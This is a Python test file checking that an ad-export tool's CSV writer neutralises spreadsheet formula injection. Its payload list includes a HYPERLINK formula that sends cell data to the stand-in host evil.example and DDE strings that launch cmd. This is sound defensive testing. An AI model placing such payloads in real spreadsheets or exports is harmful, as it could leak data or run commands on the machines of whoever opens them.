"""CSV formula injection: no exported cell begins with a character a spreadsheet runs (OWASP CSV Injection)."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest

from adloom.exports.csv_file import FORMULA_START, neutralise, write_csv
from adloom.pipeline.export import exports
from adloom.types import BrandObject, Campaign, RunSummary

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Claim your refund")', "+SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\uff1dSUM(1)"]


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_model_text_never_lands_as_a_live_formula(make: Any, tmp_path: Path, brand: BrandObject,
                                                  campaign: Campaign, summary: RunSummary, payload: str) -> None:
    concept = make.concept(meta_body=payload, headline=payload, tiktok_text=payload.replace("\r", ""),
                           rsa_headlines=[payload[:30]] * 3)
    paths = exports([concept], {}, brand, campaign, summary, tmp_path)
    seen = 0
    for key in ("meta", "google", "tiktok"):
        for cell in _cells(paths[key]):
            assert not cell.startswith(FORMULA_START), (key, cell)
            seen += cell.startswith("'" + payload[:1])
    assert seen >= 3        # the text is kept, as text: one quote in front, nothing else changed


def test_plain_cells_are_unchanged_and_quoted_ones_round_trip(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "x.csv", ["a", "b"], [{"a": "Sleep - properly", "b": "-5% today"},
                                                     {"a": "a=b", "b": "=1+1"}])
    assert _cells(path) == ["a", "b", "Sleep - properly", "'-5% today", "a=b", "'=1+1"]
    assert neutralise(3) == 3 and neutralise("") == ""
